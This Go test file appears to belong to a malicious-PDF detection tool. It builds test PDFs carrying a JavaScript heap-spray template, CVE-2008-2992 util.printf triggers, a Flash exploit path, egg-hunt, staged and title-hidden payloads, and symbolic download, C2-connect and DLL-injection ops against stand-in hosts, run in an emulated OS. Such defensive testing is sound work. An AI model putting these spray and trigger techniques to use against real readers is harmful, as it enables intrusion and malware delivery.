package reader

import (
	"strings"
	"testing"

	"pdfshield/internal/hook"
	"pdfshield/internal/pdf"
	"pdfshield/internal/winos"
)

// buildJSDoc wraps a script in a minimal OpenAction document.
func buildJSDoc(t *testing.T, script string) []byte {
	t.Helper()
	d := pdf.NewDocument()
	js := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": js})
	page := d.Add(pdf.Dict{"Type": pdf.Name("Page")})
	pages := d.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": pdf.Array{page}, "Count": pdf.Integer(1)})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "Pages": pages, "OpenAction": action})
	d.Trailer["Root"] = catalog
	data, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// sprayScript returns the canonical heap-spray + exploit trigger. The sled
// uses ASCII formfeed bytes so tests stay cheap; the coverage model only
// cares about allocated UTF-16 units.
func sprayScript(payload, trigger string) string {
	return `
var payload = "` + payload + `|";
var nop = unescape("%0c%0c%0c%0c");
while (nop.length < 524288) nop += nop;
var blocks = [];
for (var i = 0; i < 230; i++) blocks[i] = nop + payload;
` + trigger
}

const dropExecPayload = `PAYLOAD:DROP=C:\\tmp\\mal.exe;EXEC=C:\\tmp\\mal.exe`

func TestBenignScriptNoEvents(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 9.0})
	res, err := p.Open("benign", buildJSDoc(t, `
var total = 0;
for (var i = 0; i < 100; i++) total += i;
app.alert(util.printf("total=%d", total));
var when = util.printd("yyyy/mm/dd", 0);
`), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crashed {
		t.Fatal("benign doc crashed")
	}
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("script errors: %v", res.ScriptErrors)
	}
	if len(sink.Events()) != 0 {
		t.Errorf("benign doc produced %d hooked events: %+v", len(sink.Events()), sink.Events())
	}
	if res.JSHeapMB > 1 {
		t.Errorf("benign JS heap = %.2f MB", res.JSHeapMB)
	}
}

func TestHeapSprayExploitDropsAndExecutes(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 8.0})
	res, err := p.Open("mal", buildJSDoc(t, sprayScript(dropExecPayload, `util.printf("%45000f", 1.2);`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crashed {
		t.Fatalf("exploit should succeed, crashed instead: %v", res.ScriptErrors)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageShellcode {
		t.Fatalf("exploits = %+v", res.Exploits)
	}
	if res.Exploits[0].CVE != CVE20082992 || !res.Exploits[0].InJS {
		t.Errorf("exploit detail = %+v", res.Exploits[0])
	}
	if !p.OS().FileExists(`C:\tmp\mal.exe`) {
		t.Error("malware not dropped")
	}
	var behaviors []hook.Behavior
	for _, ev := range sink.Events() {
		behaviors = append(behaviors, ev.Behavior())
	}
	wantDrop, wantProc := false, false
	for _, b := range behaviors {
		if b == hook.BehaviorMalwareDropping {
			wantDrop = true
		}
		if b == hook.BehaviorProcessCreation {
			wantProc = true
		}
	}
	if !wantDrop || !wantProc {
		t.Errorf("behaviors = %v", behaviors)
	}
	if res.JSHeapMB < 100 {
		t.Errorf("spray JS heap = %.1f MB, want >= 100 (paper's F8 threshold)", res.JSHeapMB)
	}
	procs := p.OS().AliveProcesses()
	found := false
	for _, proc := range procs {
		if strings.Contains(proc.Path, "mal.exe") {
			found = true
		}
	}
	if !found {
		t.Error("dropped malware not executing")
	}
}

// TestWrappedPrintfWidthExploits: a width past 2^64 is still an
// overlong width, so the CVE-2008-2992 emulation fires on it.
func TestWrappedPrintfWidthExploits(t *testing.T) {
	p := NewProcess(Config{Sink: &hook.RecordingSink{}, ViewerVersion: 8.0})
	res, err := p.Open("mal", buildJSDoc(t, sprayScript(dropExecPayload, `util.printf("%18446744073709551716f", 0.01);`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].CVE != CVE20082992 {
		t.Fatalf("exploits = %+v, want one CVE-2008-2992 event", res.Exploits)
	}
}

func TestExploitNotVulnerableVersionDoesNothing(t *testing.T) {
	sink := &hook.RecordingSink{}
	// CVE-2008-2992 is fixed in 9.0.
	p := NewProcess(Config{Sink: sink, ViewerVersion: 9.0})
	res, err := p.Open("mal", buildJSDoc(t, sprayScript(dropExecPayload, `util.printf("%45000f", 1.2);`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crashed {
		t.Fatal("not-vulnerable call must not crash")
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageNotVulnerable {
		t.Fatalf("exploits = %+v", res.Exploits)
	}
	for _, ev := range sink.Events() {
		if ev.Behavior() == hook.BehaviorMalwareDropping || ev.Behavior() == hook.BehaviorProcessCreation {
			t.Errorf("unexpected event %v", ev)
		}
	}
	if !p.OS().FileExists(`C:\tmp\mal.exe`) == false {
		t.Error("malware dropped despite patched version")
	}
}

func TestInsufficientSprayCrashes(t *testing.T) {
	p := NewProcess(Config{ViewerVersion: 8.0})
	// Tiny spray: hijack misses, process crashes.
	res, err := p.Open("weak", buildJSDoc(t, `
var nop = unescape("%0c%0c");
while (nop.length < 4096) nop += nop;
var blocks = [];
for (var i = 0; i < 3; i++) blocks[i] = nop + "`+dropExecPayload+`|";
util.printf("%45000f", 1.2);
`), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Crashed {
		t.Fatal("expected crash")
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageCrash {
		t.Fatalf("exploits = %+v", res.Exploits)
	}
	if p.OS().FileExists(`C:\tmp\mal.exe`) {
		t.Error("crash must not drop malware")
	}
	if _, err := p.Open("after", buildJSDoc(t, "1;"), OpenOptions{}); err == nil {
		t.Error("crashed process should refuse further opens")
	}
}

func TestCrashSkipsFinally(t *testing.T) {
	// The epilogue of instrumented code must NOT run when the process
	// crashes mid-script (control never returns).
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 8.0})
	res, err := p.Open("crash", buildJSDoc(t, `
var ran = 0;
try {
  util.printf("%45000f", 1.2);
  ran = 1;
} finally {
  Collab.collectEmailInfo();
}
`), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Crashed {
		t.Fatal("expected crash (no spray at all)")
	}
}

func TestOutOfJSFlashExploit(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 9.0})

	// Document: JS only sprays (no vulnerable JS call); a malformed Flash
	// stream carries the payload and triggers after JS finishes.
	d := pdf.NewDocument()
	js := d.Add(pdf.String{Value: []byte(sprayScript("", ""))})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": js})
	flashPayload := "malformed-swf " + EncodePayload([]PayloadOp{
		{Kind: OpDrop, Args: []string{`C:\tmp\flash.exe`}},
		{Kind: OpExec, Args: []string{`C:\tmp\flash.exe`}},
	}) + "|trailer"
	flash := d.Add(&pdf.Stream{Dict: pdf.Dict{"Subtype": pdf.Name("Flash")}, Raw: []byte(flashPayload)})
	annot := d.Add(pdf.Dict{"Type": pdf.Name("Annot"), "FS": flash})
	page := d.Add(pdf.Dict{"Type": pdf.Name("Page"), "Annots": pdf.Array{annot}})
	pages := d.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": pdf.Array{page}})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "Pages": pages, "OpenAction": action})
	d.Trailer["Root"] = catalog
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}

	res, err := p.Open("flashdoc", raw, OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crashed {
		t.Fatalf("crash: %v", res.ScriptErrors)
	}
	var ev *ExploitEvent
	for i := range res.Exploits {
		if res.Exploits[i].CVE == CVE20103654 {
			ev = &res.Exploits[i]
		}
	}
	if ev == nil || ev.Stage != StageShellcode {
		t.Fatalf("flash exploit = %+v", res.Exploits)
	}
	if ev.InJS {
		t.Error("flash exploit should run out of JS context")
	}
	if !p.OS().FileExists(`C:\tmp\flash.exe`) {
		t.Error("flash payload not executed")
	}
}

func TestEggHuntEmitsMemorySearch(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 8.0})

	d := pdf.NewDocument()
	egg := d.Add(&pdf.Stream{Dict: pdf.Dict{"Type": pdf.Name("EmbeddedFile")}, Raw: []byte("EGG!MZ-real-malware-bytes")})
	script := sprayScript(`PAYLOAD:EGGHUNT=C:\\tmp\\egg.exe`, `util.printf("%45000f", 1.2);`)
	jsObj := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsObj})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action, "EmbeddedFile": egg})
	d.Trailer["Root"] = catalog
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}

	res, err := p.Open("egghunt", raw, OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crashed {
		t.Fatalf("crash: %v", res.ScriptErrors)
	}
	searches := 0
	for _, ev := range sink.Events() {
		if ev.Behavior() == hook.BehaviorMappedMemorySearch {
			searches++
		}
	}
	if searches < 4 {
		t.Errorf("memory-search probes = %d, want >= 4", searches)
	}
	data, ok := p.OS().ReadFile(`C:\tmp\egg.exe`)
	if !ok {
		t.Fatal("egg not dropped")
	}
	if string(data) != "MZ-real-malware-bytes" {
		t.Errorf("egg content = %q", data)
	}
}

func TestSetTimeOutDelayedExecution(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 8.0})
	res, err := p.Open("delayed", buildJSDoc(t,
		sprayScript(dropExecPayload, `app.setTimeOut("util.printf('%45000f', 1.2);", 1000);`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageShellcode {
		t.Fatalf("delayed exploit = %+v", res.Exploits)
	}
	if res.JSRuns != 2 {
		t.Errorf("JSRuns = %d, want 2 (main + timer)", res.JSRuns)
	}
}

func TestAddScriptStagedExecution(t *testing.T) {
	p := NewProcess(Config{ViewerVersion: 8.0})
	res, err := p.Open("staged", buildJSDoc(t,
		sprayScript(dropExecPayload, `this.addScript("s2", "util.printf('%45000f', 1.2);");`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageShellcode {
		t.Fatalf("staged exploit = %+v", res.Exploits)
	}
}

func TestNetHTTPForbidden(t *testing.T) {
	p := NewProcess(Config{})
	res, err := p.Open("net", buildJSDoc(t, `
var blocked = 0;
try { Net.HTTP.request({cURL: "http://x.example.com"}); } catch (e) { blocked = 1; }
if (blocked != 1) throw "Net.HTTP should be forbidden";
`), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.ScriptErrors) != 0 {
		t.Errorf("errors: %v", res.ScriptErrors)
	}
}

func TestSOAPToForeignHostIsNetworkAccess(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink})
	res, err := p.Open("soapdoc", buildJSDoc(t,
		`SOAP.request({cURL: "http://webservice.example.com/soap", oRequest: {q: 1}});`), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.ScriptErrors) != 0 {
		t.Errorf("errors: %v", res.ScriptErrors)
	}
	events := sink.Events()
	if len(events) != 1 || events[0].Behavior() != hook.BehaviorNetworkAccess {
		t.Errorf("events = %+v", events)
	}
}

func TestMemoryGrowsLinearlyAcrossCopies(t *testing.T) {
	p := NewProcess(Config{})
	raw := buildJSDoc(t, "1;")
	// Pad the document to a deterministic size (~1 MB).
	pad := make([]byte, 1<<20)
	for i := range pad {
		pad[i] = ' '
	}
	raw = append(raw, pad...)

	var readings []float64
	for i := 0; i < 10; i++ {
		res, err := p.Open("copy", raw, OpenOptions{})
		if err != nil {
			t.Fatal(err)
		}
		readings = append(readings, res.MemAfterMB)
	}
	for i := 1; i < len(readings); i++ {
		delta := readings[i] - readings[i-1]
		if delta <= 0 {
			t.Errorf("memory did not grow at copy %d: %v", i, readings)
		}
	}
	// Roughly linear: first and last deltas within 2x.
	d1 := readings[1] - readings[0]
	dn := readings[len(readings)-1] - readings[len(readings)-2]
	if dn > d1*2 || d1 > dn*2 {
		t.Errorf("growth not linear: first=%v last=%v", d1, dn)
	}
}

func TestMemoryOptimizationDrop(t *testing.T) {
	p := NewProcess(Config{})
	raw := buildJSDoc(t, "1;")
	pad := make([]byte, 28<<20) // ~28MB file -> ~90MB per copy
	raw = append(raw, pad...)

	var prev float64
	dropped := false
	for i := 0; i < 12; i++ {
		res, err := p.Open("bigcopy", raw, OpenOptions{OptimizeHint: true})
		if err != nil {
			t.Fatal(err)
		}
		if prev > 0 && res.MemAfterMB < prev {
			dropped = true
		}
		prev = res.MemAfterMB
	}
	if !dropped {
		t.Error("optimization drop never occurred")
	}
}

func TestCloseDocReleasesMemory(t *testing.T) {
	p := NewProcess(Config{})
	raw := buildJSDoc(t, "1;")
	before := p.MemMB()
	if _, err := p.Open("tmp", raw, OpenOptions{}); err != nil {
		t.Fatal(err)
	}
	during := p.MemMB()
	p.CloseDoc("tmp")
	after := p.MemMB()
	if !(before < during) {
		t.Errorf("open did not grow memory: %v -> %v", before, during)
	}
	if after >= during {
		t.Errorf("close did not release memory: %v -> %v", during, after)
	}
}

func TestConfinementRejectStopsEffects(t *testing.T) {
	// A sink that rejects everything: no files, no processes.
	p := NewProcess(Config{Sink: rejectAllSink{}, ViewerVersion: 8.0})
	res, err := p.Open("confined", buildJSDoc(t, sprayScript(dropExecPayload, `util.printf("%45000f", 1.2);`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageShellcode {
		t.Fatalf("exploits = %+v", res.Exploits)
	}
	if p.OS().FileExists(`C:\tmp\mal.exe`) {
		t.Error("rejected drop still created file")
	}
	if n := len(p.OS().AliveProcesses()); n != 1 { // just the reader
		t.Errorf("alive processes = %d", n)
	}
}

type rejectAllSink struct{}

func (rejectAllSink) OnAPICall(hook.Event) (hook.Decision, error) {
	return hook.Decision{Action: hook.ActionReject}, nil
}
func (rejectAllSink) Close() error { return nil }

func TestPayloadCodecRoundTrip(t *testing.T) {
	ops := []PayloadOp{
		{Kind: OpDrop, Args: []string{`C:\a.exe`}},
		{Kind: OpDownload, Args: []string{"http://evil.test/x.exe", `C:\x.exe`}},
		{Kind: OpExec, Args: []string{`C:\a.exe`}},
		{Kind: OpConnect, Args: []string{"c2.test:443"}},
		{Kind: OpListen, Args: []string{"4444"}},
		{Kind: OpEggHunt, Args: []string{`C:\egg.exe`}},
		{Kind: OpInject, Args: []string{`C:\evil.dll`}},
	}
	enc := EncodePayload(ops)
	sprayed := strings.Repeat("\x0c", 100) + enc + "|" + strings.Repeat("\x0c", 50)
	dec, ok := DecodePayload(sprayed)
	if !ok {
		t.Fatal("payload not found")
	}
	if len(dec) != len(ops) {
		t.Fatalf("decoded %d ops, want %d", len(dec), len(ops))
	}
	for i := range ops {
		if dec[i].Kind != ops[i].Kind || strings.Join(dec[i].Args, ",") != strings.Join(ops[i].Args, ",") {
			t.Errorf("op %d: got %v, want %v", i, dec[i], ops[i])
		}
	}
}

func TestDecodePayloadAbsent(t *testing.T) {
	if _, ok := DecodePayload("just spray bytes"); ok {
		t.Error("found payload where none exists")
	}
	if _, ok := DecodePayload("PAYLOAD:"); ok {
		t.Error("empty payload should not decode")
	}
}

func TestHiddenShellcodeInTitle(t *testing.T) {
	// The syntax-obfuscation trick from §II: payload hidden in the doc
	// title, referenced as this.info.title. Extraction-based detectors
	// lose it; our reader executes it faithfully.
	d := pdf.NewDocument()
	title := sprayPayloadTitle()
	info := d.Add(pdf.Dict{"Title": pdf.String{Value: []byte(title)}})
	script := `
var payload = this.info.title;
var nop = unescape("%0c%0c%0c%0c");
while (nop.length < 524288) nop += nop;
var blocks = [];
for (var i = 0; i < 230; i++) blocks[i] = nop + payload + "|";
util.printf("%45000f", 1.2);
`
	jsObj := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsObj})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	d.Trailer["Root"] = catalog
	d.Trailer["Info"] = info
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	p := NewProcess(Config{ViewerVersion: 8.0})
	res, err := p.Open("titledoc", raw, OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageShellcode {
		t.Fatalf("title-hidden exploit = %+v (errs %v)", res.Exploits, res.ScriptErrors)
	}
	if !p.OS().FileExists(`C:\tmp\title.exe`) {
		t.Error("title payload not executed")
	}
}

func sprayPayloadTitle() string {
	return EncodePayload([]PayloadOp{
		{Kind: OpDrop, Args: []string{`C:\tmp\title.exe`}},
		{Kind: OpExec, Args: []string{`C:\tmp\title.exe`}},
	})
}

func TestReaderOSIsolationHelpers(t *testing.T) {
	osState := winos.NewOS()
	osState.WriteFile(`C:\tmp\q.exe`, []byte("MZ"))
	if !osState.Quarantine(`C:\tmp\q.exe`, "alert") {
		t.Fatal("quarantine failed")
	}
	if osState.FileExists(`C:\tmp\q.exe`) {
		t.Error("file visible after quarantine")
	}
	if reason, ok := osState.Quarantined(`C:\tmp\q.exe`); !ok || reason != "alert" {
		t.Errorf("quarantine record = %q %v", reason, ok)
	}
	if !winos.IsExecutablePath(`C:\a\B.EXE`) || winos.IsExecutablePath(`C:\a\b.txt`) {
		t.Error("IsExecutablePath heuristic broken")
	}
}
